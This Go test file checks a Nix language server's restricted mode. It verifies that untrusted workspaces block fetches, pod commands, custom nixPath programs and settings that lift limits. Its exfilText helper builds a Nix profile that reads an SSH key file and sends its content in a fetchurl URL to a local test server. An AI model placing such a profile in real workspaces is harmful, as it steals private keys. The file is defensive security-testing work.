package hostile

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/insomnia-lsp/insomnia-lsp/hostile/lspproc"
	"github.com/insomnia-lsp/insomnia-lsp/internal/testenv"
)

// Issue "Safe by default: trust fails closed", points 1, 3 and 7: trust
// comes only from initializationOptions, pods need trust, settings cannot
// lift the limits, and a setting naming a program needs trust.

const restrictedHint = "blocked in restricted mode: this workspace is not trusted"

// exfilServer counts requests and records their query strings.
type exfilServer struct {
	*httptest.Server
	mu      sync.Mutex // guards queries
	queries []string
	hits    atomic.Int32
}

func newExfilServer(t *testing.T) *exfilServer {
	s := &exfilServer{}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.hits.Add(1)
		s.mu.Lock()
		s.queries = append(s.queries, r.URL.RawQuery)
		s.mu.Unlock()
		fmt.Fprint(w, "fetched")
	}))
	t.Cleanup(s.Close)
	return s
}

func (s *exfilServer) gotQuery(fragment string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, q := range s.queries {
		if strings.Contains(q, fragment) {
			return true
		}
	}
	return false
}

// exfilText is the attack of the issue: the description fetches a URL
// carrying the content of a key file.
func exfilText(t *testing.T, dir, url, keyFile string) string {
	return localProfile(t, dir, fmt.Sprintf("  pod.name = \"exfil\";\n  description = builtins.readFile (builtins.fetchurl \"%s/x?d=${builtins.readFile %s}\");\n",
		url, keyFile))
}

// keyFile writes secret into a key file outside the workspace.
func keyFile(t *testing.T, secret string) string {
	return testenv.Write(t, filepath.Join(t.TempDir(), ".ssh", "id_ed25519"), secret)
}

func TestTrustDefaultFetchExfiltration(t *testing.T) {
	for name, o := range map[string]struct{ init, settings map[string]any }{
		"NoTrust":            {init: map[string]any{}, settings: map[string]any{}},
		"TrustViaConfigOnly": {init: map[string]any{}, settings: map[string]any{"trusted": true, "trustedRoots": []string{"/"}}},
		"TrustedAsString":    {init: map[string]any{"trusted": "true"}, settings: map[string]any{"trusted": true}},
	} {
		t.Run(name, func(t *testing.T) {
			srv := newExfilServer(t)
			key := keyFile(t, canary)
			c := start(t, caseOpts{initOptions: fixed(o.init), settings: o.settings})
			path := c.open("exfil.nix", exfilText(t, c.root, srv.URL, key))
			c.expect(path, "nix-error", "forbidden in restricted mode", restrictedHint)
			if n := srv.hits.Load(); n != 0 {
				t.Errorf("an untrusted evaluation reached the HTTP server: %d request(s)", n)
			}
			c.healthy(path)
		})
	}
}

// TestTrustDefaultFetchWhenTrusted is the control: with `trusted: true`
// in initializationOptions the same profile does fetch (the attack is
// real, so the cases above can fail). The key is no canary here: it is
// meant to reach the server.
func TestTrustDefaultFetchWhenTrusted(t *testing.T) {
	srv := newExfilServer(t)
	plain := "not-a-secret-" + randomHex(6)
	key := keyFile(t, plain)
	c := start(t, caseOpts{initOptions: fixed(map[string]any{"trusted": true})})
	path := c.open("exfil.nix", exfilText(t, c.root, srv.URL, key))
	if err := c.p.WaitFor(awaitLong, func() bool { return srv.hits.Load() > 0 }); err != nil {
		t.Fatalf("a trusted evaluation never fetched: %s", describeStatuses(c.p, path))
	}
	if !srv.gotQuery(plain) {
		t.Errorf("the fetch did not carry the key file's content")
	}
	c.healthy(path)
}

// TestTrustDefaultCLI: `check` and `resolve` without --trusted evaluate
// restricted; with --trusted they fetch.
func TestTrustDefaultCLI(t *testing.T) {
	needBinary(t)
	srv := newExfilServer(t)
	root, home := t.TempDir(), t.TempDir()
	testenv.Write(t, filepath.Join(root, "exfil.nix"), exfilText(t, root, srv.URL, keyFile(t, canary)))
	testenv.Write(t, filepath.Join(root, ".insomnia", "profiles.toml"), "[profile]\nexfil = \"../exfil.nix\"\n")
	for _, args := range [][]string{{"check", "exfil.nix"}, {"check"}, {"resolve", "./exfil.nix"}, {"resolve", "--json", "exfil"}} {
		code, out := runCLI(t, root, home, args...)
		if code != 1 || !strings.Contains(out, restrictedHint) {
			t.Errorf("%s: exit %d, want 1 and %q in:\n%s", strings.Join(args, " "), code, restrictedHint, out)
		}
		for _, n := range needles() {
			if strings.Contains(out, n) {
				t.Errorf("%s printed forbidden text %.40q", strings.Join(args, " "), n)
			}
		}
	}
	if n := srv.hits.Load(); n != 0 {
		t.Errorf("the CLI without --trusted reached the HTTP server: %d request(s)", n)
	}
	// The control, with a key that is no canary.
	testenv.Write(t, filepath.Join(root, "exfil.nix"), exfilText(t, root, srv.URL, keyFile(t, "plain-key")))
	if code, out := runCLI(t, root, home, "resolve", "--trusted", "./exfil.nix"); code != 0 || srv.hits.Load() == 0 {
		t.Errorf("resolve --trusted: exit %d, %d request(s): the fetch should happen\n%s", code, srv.hits.Load(), out)
	}
}

// runCLI runs the built binary in dir with its own insomnia home and
// returns the exit code and stdout+stderr.
func runCLI(t *testing.T, dir, home string, args ...string) (int, string) {
	t.Helper()
	cmd := exec.Command(binary, args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "INSOMNIA_CONFIG_DIR="+filepath.Join(home, "config"),
		"INSOMNIA_DATA_DIR="+filepath.Join(home, "data"), "INSOMNIA_RUNTIME_DIR="+filepath.Join(home, "run"))
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	var exit *exec.ExitError
	switch {
	case err == nil:
		return 0, out.String()
	case errors.As(err, &exit):
		return exit.ExitCode(), out.String()
	}
	t.Fatalf("running %s: %v", binary, err)
	return -1, ""
}

// fixed is initializationOptions that do not depend on the root.
func fixed(init map[string]any) func(string) map[string]any {
	return func(string) map[string]any { return init }
}

// needBinary skips and fails as start does, for cases without a server.
func needBinary(t *testing.T) {
	t.Helper()
	switch {
	case nixErr != nil:
		t.Skip("nix-instantiate not installed (apt-get install nix-bin)")
	case testing.Short():
		t.Skip("hostile suite skipped in -short mode")
	case buildErr != nil:
		t.Fatal(buildErr)
	}
}

// TestTrustedRootsPerFolder: trustedRoots covers one folder; a profile
// there reads outside the workspace, while the same profile in the other
// folder, and one reached through a symlink from the trusted folder to
// outside it, are evaluated restricted.
func TestTrustedRootsPerFolder(t *testing.T) {
	plain := testenv.Write(t, filepath.Join(t.TempDir(), "plain.txt"), "plain")
	elsewhere := t.TempDir()
	c := start(t, caseOpts{
		setup: func(root, home string) {
			mkdir(t, filepath.Join(root, "trusted"))
			mkdir(t, filepath.Join(root, "untrusted"))
			if err := os.Symlink(elsewhere, filepath.Join(root, "trusted", "link")); err != nil {
				t.Fatal(err)
			}
		},
		initOptions: func(root string) map[string]any {
			return map[string]any{"trustedRoots": []string{"file://" + filepath.Join(root, "trusted")}}
		},
	})
	reads := "  pod.name = \"r\";\n  description = builtins.readFile " + plain + ";\n"
	ok := c.open("trusted/a.nix", localProfile(t, filepath.Join(c.root, "trusted"), reads))
	no := c.open("untrusted/b.nix", localProfile(t, filepath.Join(c.root, "untrusted"), reads))
	linked := c.open("trusted/link/c.nix", localProfile(t, elsewhere, reads))
	c.expect(no, "nix-error", "forbidden in restricted mode", restrictedHint)
	// The link leaves the trusted root: the profile behind it is outside
	// the workspace once resolved, so it is not evaluated at all.
	c.expect(linked, "untrusted-outside", "symlink to a file outside this untrusted workspace")
	if err := c.p.WaitFor(awaitLong, func() bool { return lastState(c.p, ok) == "ok" }); err != nil {
		ds, _ := c.p.Diagnostics(ok)
		t.Errorf("the profile under the trusted root did not evaluate unrestricted: %s %s", describeStatuses(c.p, ok), describe(ds))
	}
	c.healthy(ok)
}

// markerScript writes a script that appends to marker when run, then
// does what then says (a shell line).
func markerScript(t *testing.T, marker, then string) string {
	path := filepath.Join(t.TempDir(), "prog.sh")
	if err := os.WriteFile(path, []byte("#!/bin/sh\necho ran >> '"+marker+"'\n"+then+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	return path
}

func exists(path string) bool {
	_, err := os.Stat(path)
	return err == nil
}

// lensCommands are the titles and commands of a file's code lenses.
func lensCommands(t *testing.T, p *lspproc.Proc, path string) map[string]string {
	t.Helper()
	raw, err := p.Call("textDocument/codeLens", map[string]any{"textDocument": map[string]string{"uri": uriOf(path)}})
	if err != nil {
		t.Fatalf("codeLens: %v", err)
	}
	var lenses []struct {
		Command struct{ Title, Command string } `json:"command"`
	}
	if err := json.Unmarshal(raw, &lenses); err != nil {
		t.Fatalf("codeLens result %s: %v", raw, err)
	}
	out := map[string]string{}
	for _, l := range lenses {
		out[l.Command.Title] = l.Command.Command
	}
	return out
}

func hasSpawnLens(lenses map[string]string) bool {
	for title, cmd := range lenses {
		if strings.HasPrefix(title, "Spawn pod") || cmd == "insomnia.client.spawnPod" || cmd == "insomnia.client.resumePod" {
			return true
		}
	}
	return false
}

// TestUntrustedPodCommandsRefused: a direct workspace/executeCommand of
// spawnPod or resumePod in an untrusted server is refused and the pod
// program never runs; no Spawn lens is shown. With trust the same program
// runs (the marker mechanism works).
func TestUntrustedPodCommandsRefused(t *testing.T) {
	for _, trusted := range []bool{false, true} {
		t.Run(map[bool]string{false: "Untrusted", true: "Trusted"}[trusted], func(t *testing.T) {
			marker := filepath.Join(t.TempDir(), "pod-ran")
			pod := markerScript(t, marker, "exit 1")
			init := map[string]any{}
			if trusted {
				init["trusted"] = true
			}
			c := start(t, caseOpts{initOptions: fixed(init), settings: map[string]any{"pod": map[string]any{"command": pod}},
				env: []string{"INSOMNIA_POD_COMMAND=" + pod}})
			path := c.open("coder.nix", localProfile(t, c.root, "  pod.name = \"coder\";\n"))
			if err := c.p.WaitFor(awaitLong, func() bool { return lastState(c.p, path) == "ok" }); err != nil {
				t.Fatalf("the profile never evaluated: %s", describeStatuses(c.p, path))
			}
			_, spawnErr := c.p.Command("insomnia.spawnPod", map[string]string{"profile": uriOf(path), "name": "coder"})
			_, resumeErr := c.p.Command("insomnia.resumePod", map[string]string{"name": "coder"})
			lenses := lensCommands(t, c.p, path)
			if trusted {
				if !exists(marker) || !hasSpawnLens(lenses) {
					t.Errorf("trusted: pod program ran %v, Spawn lens %v: both should (lenses %v)", exists(marker), hasSpawnLens(lenses), lenses)
				}
				return
			}
			want := "blocked in restricted mode: this workspace is not trusted; trust it to allow spawning pods"
			for name, err := range map[string]error{"spawnPod": spawnErr, "resumePod": resumeErr} {
				if err == nil || !strings.Contains(err.Error(), want) {
					t.Errorf("%s in an untrusted server: %v, want the error %q", name, err, want)
				}
			}
			if exists(marker) {
				t.Errorf("the pod program ran in an untrusted server")
			}
			if hasSpawnLens(lenses) {
				t.Errorf("untrusted server shows pod actions: %v", lenses)
			}
			c.healthy(path)
		})
	}
}

// TestUntrustedNixPathIgnored: nixPath naming a program (here a script
// leaving a marker) is not run in an untrusted workspace, which evaluates
// with nix-instantiate from PATH; a trusted one runs it.
func TestUntrustedNixPathIgnored(t *testing.T) {
	nix, err := exec.LookPath("nix-instantiate")
	if err != nil {
		t.Skip("nix-instantiate not installed")
	}
	for _, trusted := range []bool{false, true} {
		t.Run(map[bool]string{false: "Untrusted", true: "Trusted"}[trusted], func(t *testing.T) {
			marker := filepath.Join(t.TempDir(), "nix-ran")
			prog := markerScript(t, marker, "exec '"+nix+"' \"$@\"")
			init := map[string]any{"nixPath": prog}
			if trusted {
				init["trusted"] = true
			}
			c := start(t, caseOpts{initOptions: fixed(init), settings: map[string]any{"nixPath": prog}})
			path := c.open("p.nix", localProfile(t, c.root, "  pod.name = \"p\";\n"))
			if err := c.p.WaitFor(awaitLong, func() bool { return lastState(c.p, path) == "ok" }); err != nil {
				t.Fatalf("the profile never evaluated: %s", describeStatuses(c.p, path))
			}
			if exists(marker) != trusted {
				t.Errorf("nixPath program ran: %v, want %v", exists(marker), trusted)
			}
			c.healthy(path)
		})
	}
}

// TestClampsFromConfiguration: an untrusted repository's settings ask for
// 1000 concurrent evaluations and a 2^31-1 ms timeout; 8 endless profiles
// never run more Nix processes than CPUs, and they stop at the timeout
// ceiling. (About a minute: one ceiling's worth.)
func TestClampsFromConfiguration(t *testing.T) {
	c := start(t, caseOpts{initOptions: fixed(map[string]any{}),
		settings: map[string]any{"evaluation": map[string]any{"maxConcurrent": 1000, "timeoutMs": 2147483647}}})
	var paths []string
	for i := 0; i < 8; i++ {
		paths = append(paths, c.open(fmt.Sprintf("loop%d.nix", i), localProfile(t, c.root, loopText)))
	}
	var most atomic.Int32
	stop := make(chan struct{})
	go func() {
		for {
			select {
			case <-stop:
				return
			case <-time.After(50 * time.Millisecond):
			}
			if n := int32(len(c.p.NixChildren())); n > most.Load() {
				most.Store(n)
			}
		}
	}()
	ceiling := time.Duration(60000) * time.Millisecond // lsp.MaxTimeoutMs
	var stopped []string
	err := c.p.WaitFor(ceiling+40*time.Second, func() bool {
		stopped = stopped[:0]
		for _, p := range paths {
			if ds, _ := c.p.Diagnostics(p); len(ds) > 0 && ds[0].Code() == "timeout" {
				stopped = append(stopped, ds[0].Message)
			}
		}
		return len(stopped) >= min(runtime.NumCPU(), len(paths))
	})
	close(stop)
	if err != nil {
		t.Errorf("no evaluation stopped within the ceiling (%v) and some: %d stopped", ceiling, len(stopped))
	}
	for _, m := range stopped {
		if !strings.Contains(m, "after 60 s") {
			t.Errorf("timeout message %q: want the 60 s ceiling", m)
		}
	}
	if n := int(most.Load()); n > runtime.NumCPU() || n == 0 {
		t.Errorf("at most %d Nix processes at once; want 1..%d (NumCPU)", n, runtime.NumCPU())
	}
	t.Logf("most Nix processes at once: %d (NumCPU %d)", most.Load(), runtime.NumCPU())
	if _, err := c.p.Hover(paths[0], 0, 0); err != nil {
		t.Errorf("hover while evaluations are queued: %v", err)
	}
}
